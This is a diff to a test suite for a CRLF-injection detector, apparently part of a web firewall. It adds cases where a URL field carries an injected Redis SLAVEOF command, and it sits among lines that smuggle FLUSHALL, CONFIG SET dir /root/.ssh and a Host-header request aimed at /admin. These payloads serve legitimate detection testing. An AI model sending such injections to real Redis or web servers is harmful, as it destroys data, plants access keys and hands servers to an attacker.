@@ -104,6 +104,9 @@ describe('CRLF injection', () => {
     // a Redis command on the line after an id the application writes in the inline protocol
     expect(idsOf('hub-1\r\nFLUSHALL\r\nCONFIG SET dir /root/.ssh\r\n', 'query', 'device')).toContain(920107);
     expect(idsOf('sess-9\nslaveof 203.0.113.9 6379', 'cookie', 'sid')).toContain(920107);
+    // or after a URL whose request line a fetcher sends as written
+    expect(idsOf('http://127.0.0.1:6379/?q=1 HTTP/1.1\r\nSLAVEOF 203.0.113.7 6379\r\nFOO: x', 'body_json', 'arguments.url')).toContain(920107);
+    expect(idsOf('see http://redis.example/docs HTTP/1.1\r\nSLAVEOF 10.0.0.2 6379', 'body_json', 'notes')).not.toContain(920107);
     // `čĊ`, which a client keeping each character's low byte sends as CR LF (U+0120 a space)
     expect(idsOf('/status\u010d\u010aHost:\u0120127.0.0.1\u010d\u010a\u010d\u010aGET\u0120/admin', 'query', 'path')).toContain(920101);
     expect(classesOf('Kočka a Ċaqħaq: host: the garden', 'body_form', 'message').has('CrlfInjection')).toBe(false);
